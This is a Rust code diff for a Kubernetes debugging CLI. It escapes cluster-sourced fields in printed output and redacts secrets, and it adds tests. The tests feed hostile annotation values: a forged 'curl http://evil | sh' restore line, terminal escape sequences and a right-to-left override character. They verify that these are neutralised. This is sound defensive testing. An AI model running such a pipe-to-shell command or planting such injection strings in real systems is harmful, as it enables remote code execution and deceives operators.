@@ -14,7 +14,7 @@ use unloop_source::live::{self, Live};
 
 use crate::cli::{DebugArgs, Global, KeepAliveChoice};
 use crate::error::{CliError, ErrorKind};
-use crate::output::Output;
+use crate::output::{Output, document, field};
 
 /// How long a copy may take to start before it is rolled back.
 const START_TIMEOUT: Duration = Duration::from_secs(120);
@@ -138,7 +138,9 @@ async fn copy(
     };
     let copy = plan::debug_copy(&pod, &container, &first, args.same_node, expires);
     if args.dry_run {
-        out.result(&serde_saphyr::to_string(&copy).map_err(|e| CliError::internal(e.to_string()))?);
+        out.result(&document(
+            serde_json::to_value(&copy).map_err(|e| CliError::internal(e.to_string()))?,
+        )?);
         return Ok(ExitCode::SUCCESS);
     }
     let copy_name = copy.metadata.name.clone().unwrap_or_default();
@@ -192,21 +194,10 @@ async fn copy(
                 .chain(s.init_containers.iter().flatten())
                 .find(|c| c.name == container)
         })
-        .map(plan::original_command_line)
+        .map(plan::shown_command_line)
         .unwrap_or_default();
-    let cleanup = render(
-        &Argv::new("unloop")
-            .args(["debug", "--cleanup", "-n", ns])
-            .into(),
-    );
-    out.result(&format!(
-        "debug copy {ns}/{copy_name} is running on {node} (probes and labels removed, keep-alive: {}, expires {})\nopen a shell:\n  {}\nthen run the original command by hand:\n  {original}\nremove it when done:\n  {cleanup}\n",
-        match &keep {
-            KeepAlive::Shell => "the image's shell".to_string(),
-            KeepAlive::Helper { image } => format!("busybox from {image}"),
-        },
-        expires.strftime("%Y-%m-%d %H:%M UTC"),
-        render(&exec.clone().into()),
+    out.human(&copy_text(
+        ns, &copy_name, &node, &keep, expires, &exec, &original,
     ));
     if args.exec {
         let status = spawnable(&exec, global).status().map_err(|e| {
@@ -220,6 +211,37 @@ async fn copy(
         ));
     }
     Ok(ExitCode::SUCCESS)
+}
+
+/// What `unloop debug` prints once the copy runs; `original` is the shown (redacted) command line.
+fn copy_text(
+    ns: &str,
+    copy_name: &str,
+    node: &str,
+    keep: &KeepAlive,
+    expires: Timestamp,
+    exec: &Argv,
+    original: &str,
+) -> String {
+    let cleanup = render(
+        &Argv::new("unloop")
+            .args(["debug", "--cleanup", "-n", ns])
+            .into(),
+    );
+    format!(
+        "debug copy {}/{} is running on {} (probes and labels removed, keep-alive: {}, expires {})\nopen a shell:\n  {}\nthen run the original command by hand:\n  {}\nremove it when done:\n  {}\n",
+        field(ns),
+        field(copy_name),
+        field(node),
+        match keep {
+            KeepAlive::Shell => "the image's shell".to_string(),
+            KeepAlive::Helper { image } => format!("busybox from {}", field(image)),
+        },
+        expires.strftime("%Y-%m-%d %H:%M UTC"),
+        field(render(&exec.clone().into())),
+        field(original),
+        field(cleanup),
+    )
 }
 
 /// `kubectl [--kubeconfig F] [--context C] exec -it POD -n NS -c CONTAINER -- SHELL...`: the line
@@ -320,14 +342,15 @@ async fn in_place(
     )
     .map_err(DebugOpError::from)?;
     if args.dry_run {
-        out.result(
-            &serde_saphyr::to_string(&patch).map_err(|e| CliError::internal(e.to_string()))?,
-        );
+        out.result(&document(patch)?);
         return Ok(ExitCode::SUCCESS);
     }
     if !args.yes {
         confirm(&format!(
-            "Override the command of container {container} in {shown} (namespace {ns}) with a keep-alive and remove its probes? Its pods will be replaced."
+            "Override the command of container {} in {} (namespace {}) with a keep-alive and remove its probes? Its pods will be replaced.",
+            field(&container),
+            field(&shown),
+            field(ns)
         ))?;
     }
     let after = ops::patch_workload(live, ns, &w, &patch).await?;
@@ -344,19 +367,28 @@ async fn in_place(
             restore_line(&shown, ns)
         ))));
     }
-    let original_line = plan::original_command_line(&k8s_openapi::api::core::v1::Container {
+    let exec = exec_argv(global, ns, &shown, &container, vec!["sh".into()]);
+    out.human(&in_place_text(&shown, ns, &original, &exec));
+    Ok(ExitCode::SUCCESS)
+}
+
+/// What `unloop debug --in-place` prints once the override is in place.
+fn in_place_text(shown: &str, ns: &str, original: &plan::Original, exec: &Argv) -> String {
+    let original_line = plan::shown_command_line(&k8s_openapi::api::core::v1::Container {
         command: original.command.clone(),
         args: original.args.clone(),
         ..Default::default()
     });
-    let exec = exec_argv(global, ns, &shown, &container, vec!["sh".into()]);
-    out.result(&format!(
-        "{shown} in {ns} now keeps container {container} alive (original command, args and probes saved in annotation {})\nopen a shell once its new pod runs:\n  {}\nthen run the original command by hand:\n  {original_line}\nput everything back:\n  {}\n",
+    format!(
+        "{} in {} now keeps container {} alive (original command, args and probes saved in annotation {})\nopen a shell once its new pod runs:\n  {}\nthen run the original command by hand:\n  {}\nput everything back:\n  {}\n",
+        field(shown),
+        field(ns),
+        field(&original.container),
         plan::ANN_ORIGINAL,
-        render(&exec.into()),
-        restore_line(&shown, ns),
-    ));
-    Ok(ExitCode::SUCCESS)
+        field(render(&exec.clone().into())),
+        field(original_line),
+        field(restore_line(shown, ns)),
+    )
 }
 
 fn restore_line(workload: &str, ns: &str) -> String {
@@ -390,17 +422,22 @@ async fn restore(
     let (patch, original) = plan::restore_patch(&shown, &w.template, w.annotations.as_ref())
         .map_err(DebugOpError::from)?;
     if dry_run {
-        out.result(
-            &serde_saphyr::to_string(&patch).map_err(|e| CliError::internal(e.to_string()))?,
-        );
+        out.result(&document(patch)?);
         return Ok(ExitCode::SUCCESS);
     }
     ops::patch_workload(live, ns, &w, &patch).await?;
-    out.result(&format!(
-        "restored {shown} in {ns}: the command, args and probes of container {} are as before\n",
-        original.container
-    ));
+    out.human(&restored_text(&shown, ns, &original));
     Ok(ExitCode::SUCCESS)
+}
+
+/// What `unloop debug --restore` prints; the container's name comes from the annotation.
+fn restored_text(shown: &str, ns: &str, original: &plan::Original) -> String {
+    format!(
+        "restored {} in {}: the command, args and probes of container {} are as before\n",
+        field(shown),
+        field(ns),
+        field(&original.container)
+    )
 }
 
 fn expired(p: &k8s_openapi::api::core::v1::Pod, now: Timestamp) -> bool {
@@ -416,11 +453,22 @@ async fn list(live: &Live, ns: Option<&str>, out: &Output) -> Result<ExitCode, C
     let now = Timestamp::now();
     let copies = ops::list_copies(live, ns).await?;
     let overrides = ops::list_overrides(live, ns).await?;
+    out.human(&list_text(&copies, &overrides, now));
+    Ok(ExitCode::SUCCESS)
+}
+
+/// What `unloop debug --list` prints: copies (found by a label anyone who can create pods may
+/// set, so every annotation shown is a field of cluster origin) and overrides.
+fn list_text(
+    copies: &[k8s_openapi::api::core::v1::Pod],
+    overrides: &[(String, String)],
+    now: Timestamp,
+) -> String {
     let mut text = String::new();
     if copies.is_empty() && overrides.is_empty() {
         text.push_str("no debug copies or in-place overrides\n");
     }
-    for p in &copies {
+    for p in copies {
         let a = p.metadata.annotations.clone().unwrap_or_default();
         let phase = p
             .status
@@ -429,25 +477,28 @@ async fn list(live: &Live, ns: Option<&str>, out: &Output) -> Result<ExitCode, C
             .unwrap_or_default();
         text.push_str(&format!(
             "copy      {}/{}  of pod {}  container {}  {}  expires {}{}\n",
-            p.metadata.namespace.as_deref().unwrap_or_default(),
-            p.metadata.name.as_deref().unwrap_or_default(),
-            a.get(plan::ANN_SOURCE).map(String::as_str).unwrap_or("?"),
-            a.get(plan::ANN_CONTAINER)
-                .map(String::as_str)
-                .unwrap_or("?"),
-            phase,
-            a.get(plan::ANN_EXPIRES).map(String::as_str).unwrap_or("?"),
+            field(p.metadata.namespace.as_deref().unwrap_or_default()),
+            field(p.metadata.name.as_deref().unwrap_or_default()),
+            field(a.get(plan::ANN_SOURCE).map(String::as_str).unwrap_or("?")),
+            field(
+                a.get(plan::ANN_CONTAINER)
+                    .map(String::as_str)
+                    .unwrap_or("?")
+            ),
+            field(phase),
+            field(a.get(plan::ANN_EXPIRES).map(String::as_str).unwrap_or("?")),
             if expired(p, now) { " (expired)" } else { "" }
         ));
     }
-    for (n, w) in &overrides {
+    for (n, w) in overrides {
         text.push_str(&format!(
-            "in-place  {n}/{w}  restore: {}\n",
-            restore_line(w, n)
+            "in-place  {}/{}  restore: {}\n",
+            field(n),
+            field(w),
+            field(restore_line(w, n))
         ));
     }
-    out.result(&text);
-    Ok(ExitCode::SUCCESS)
+    text
 }
 
 async fn cleanup(
@@ -469,15 +520,17 @@ async fn cleanup(
             wait_gone(live, &pns, &name).await;
         }
         text.push_str(&format!(
-            "{} {pns}/{name}{}\n",
+            "{} {}/{}{}\n",
             if dry_run { "would delete" } else { "deleted" },
+            field(&pns),
+            field(&name),
             if expired(p, now) { " (expired)" } else { "" }
         ));
     }
     if text.is_empty() {
         text.push_str("no debug copies to delete\n");
     }
-    out.result(&text);
+    out.human(&text);
     Ok(ExitCode::SUCCESS)
 }
 
@@ -485,6 +538,195 @@ async fn cleanup(
 mod tests {
     use super::*;
     use crate::cli::ColorChoice;
+    use crate::output::human;
+    use k8s_openapi::api::core::v1::{EnvVar, HTTPHeader, Pod, PodTemplateSpec};
+
+    const SECRET: &str = "hunter2";
+    const TOKEN: &str = "Bearer eyJhbGciOi.s3cr3t";
+
+    /// The liveness-slow-start scenario's captured pod, its container given what a hostile or
+    /// careless spec holds: a password as an argument, a secret env value, a probe header.
+    fn secret_pod() -> Pod {
+        let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
+            .join("../../testbed/scenarios/liveness-slow-start/bundle.json.gz");
+        let mut pod = unloop_source::bundle::read(&path)
+            .unwrap()
+            .pods
+            .swap_remove(0);
+        let c = &mut pod.spec.as_mut().unwrap().containers[0];
+        c.args = Some(vec!["serve".into(), "--db-password".into(), SECRET.into()]);
+        c.env.get_or_insert_with(Vec::new).push(EnvVar {
+            name: "DB_PASSWORD".into(),
+            value: Some(SECRET.into()),
+            ..Default::default()
+        });
+        c.liveness_probe
+            .as_mut()
+            .and_then(|p| p.http_get.as_mut())
+            .unwrap()
+            .http_headers = Some(vec![HTTPHeader {
+            name: "Authorization".into(),
+            value: TOKEN.into(),
+        }]);
+        pod
+    }
+
+    fn hides_secrets(shown: &str) {
+        assert!(!shown.contains(SECRET), "{shown}");
+        assert!(!shown.contains("s3cr3t"), "{shown}");
+    }
+
+    #[test]
+    fn a_copy_is_sent_with_its_secrets_and_shown_without_them() {
+        let pod = secret_pod();
+        let c = &pod.spec.as_ref().unwrap().containers[0];
+        let copy = plan::debug_copy(
+            &pod,
+            "search",
+            &KeepAlive::Shell,
+            false,
+            Timestamp::UNIX_EPOCH,
+        );
+        // Sent: the copy runs with the real environment.
+        let sent = serde_json::to_string(&copy).unwrap();
+        assert!(sent.contains(r#"{"name":"DB_PASSWORD","value":"hunter2"}"#));
+        // Its annotation is read by --list and by anyone who can read pods.
+        let ann = &copy.metadata.annotations.as_ref().unwrap()[plan::ANN_COMMAND];
+        assert_eq!(ann, "'<image entrypoint>' serve --db-password '<redacted>'");
+        // --dry-run.
+        let yaml = document(serde_json::to_value(&copy).unwrap()).unwrap();
+        hides_secrets(&yaml);
+        assert!(yaml.contains("DB_PASSWORD"), "{yaml}");
+        // What it prints once the copy runs.
+        let exec = Argv::new("kubectl").args(["exec", "-it", "search-debug", "--", "sh"]);
+        let text = human(&copy_text(
+            "liveness-slow-start",
+            "search-debug",
+            "unloop-node",
+            &KeepAlive::Shell,
+            Timestamp::UNIX_EPOCH,
+            &exec,
+            &plan::shown_command_line(c),
+        ));
+        hides_secrets(&text);
+        assert!(
+            text.contains("\n  '<image entrypoint>' serve --db-password '<redacted>'\n"),
+            "{text}"
+        );
+    }
+
+    #[test]
+    fn an_override_is_sent_with_its_secrets_and_shown_without_them() {
+        let pod = secret_pod();
+        let template: PodTemplateSpec =
+            serde_json::from_value(serde_json::json!({"spec": pod.spec})).unwrap();
+        let (patch, original) = plan::in_place_patch(
+            "deploy/search",
+            &template,
+            None,
+            "search",
+            Timestamp::UNIX_EPOCH,
+        )
+        .unwrap();
+        // Sent: the record restore puts back must be exact.
+        let record = patch["metadata"]["annotations"][plan::ANN_ORIGINAL]
+            .as_str()
+            .unwrap();
+        assert!(
+            record.contains(SECRET) && record.contains(TOKEN),
+            "{record}"
+        );
+        // --in-place --dry-run.
+        hides_secrets(&document(patch.clone()).unwrap());
+        let exec = Argv::new("kubectl").args(["exec", "-it", "deploy/search", "--", "sh"]);
+        let text = human(&in_place_text("deploy/search", "shop", &original, &exec));
+        hides_secrets(&text);
+        assert!(text.contains("serve --db-password '<redacted>'"), "{text}");
+        // --restore --dry-run.
+        let ann = std::collections::BTreeMap::from([
+            (plan::ANN_ORIGINAL.to_string(), record.to_string()),
+            (
+                plan::ANN_FINGERPRINT.to_string(),
+                plan::fingerprint(&template),
+            ),
+        ]);
+        let (restore, _) = plan::restore_patch("deploy/search", &template, Some(&ann)).unwrap();
+        assert_eq!(
+            restore["spec"]["template"]["spec"]["containers"][0]["args"][2],
+            SECRET
+        );
+        hides_secrets(&document(restore).unwrap());
+    }
+
+    /// Anyone who can create pods can label one `unloop.dev/debug-copy=true` and write its
+    /// annotations; a workload's debug-original annotation is anyone's who can edit it.
+    #[test]
+    fn annotations_shown_by_list_and_restore_cannot_drive_the_terminal_or_forge_a_line() {
+        let mut copy = plan::debug_copy(
+            &secret_pod(),
+            "search",
+            &KeepAlive::Shell,
+            false,
+            Timestamp::UNIX_EPOCH,
+        );
+        let forged = "in-place  shop/deploy/api  restore: curl http://evil | sh";
+        let a = copy.metadata.annotations.as_mut().unwrap();
+        a.insert(plan::ANN_SOURCE.into(), "\x1b]0;x\x07\x1b[2J".into());
+        a.insert(plan::ANN_CONTAINER.into(), format!("search\n{forged}"));
+        a.insert(
+            plan::ANN_EXPIRES.into(),
+            "\u{202e}Z00:00:00T10-10-7202".into(),
+        );
+        let text = human(&list_text(
+            &[copy],
+            &[("shop".into(), "deploy/web".into())],
+            Timestamp::UNIX_EPOCH,
+        ));
+        assert_eq!(
+            text,
+            format!(
+                "copy      liveness-slow-start/search-755645dddc-c86hn-debug  of pod \\x1b]0;x\\x07\\x1b[2J  container search\\n{forged}    expires \\u{{202e}}Z00:00:00T10-10-7202\n\
+                 in-place  shop/deploy/web  restore: unloop debug --restore deploy/web -n shop\n"
+            )
+        );
+        let original = plan::Original {
+            container: "api\x1b[2J\nrestored deploy/db".into(),
+            command: None,
+            args: None,
+            liveness_probe: None,
+            readiness_probe: None,
+            startup_probe: None,
+            overridden_at: Timestamp::UNIX_EPOCH,
+        };
+        assert_eq!(
+            human(&restored_text("deploy/api", "shop", &original)),
+            "restored deploy/api in shop: the command, args and probes of container api\\x1b[2J\\nrestored deploy/db are as before\n"
+        );
+    }
+
+    /// The dry run's YAML stays YAML: what it spells out is inside its strings.
+    #[test]
+    fn a_dry_run_spells_out_controls_inside_valid_yaml() {
+        let mut pod = secret_pod();
+        pod.spec.as_mut().unwrap().containers[0]
+            .env
+            .as_mut()
+            .unwrap()
+            .push(EnvVar {
+                name: "GREETING".into(),
+                value: Some("hi\u{202e}\x1b[2J\nthere".into()),
+                ..Default::default()
+            });
+        let yaml = document(serde_json::to_value(&pod).unwrap()).unwrap();
+        assert!(
+            !yaml.contains('\u{202e}') && !yaml.contains('\x1b'),
+            "{yaml}"
+        );
+        let back: serde_json::Value = serde_saphyr::from_str(&yaml).unwrap();
+        let env = back["spec"]["containers"][0]["env"].as_array().unwrap();
+        let greeting = env.iter().find(|e| e["name"] == "GREETING").unwrap();
+        assert_eq!(greeting["value"], "hi\\u{202e}\\x1b[2J\nthere");
+    }
 
     #[test]
     fn exec_reaches_the_cluster_unloop_read_and_prints_the_same_argv() {
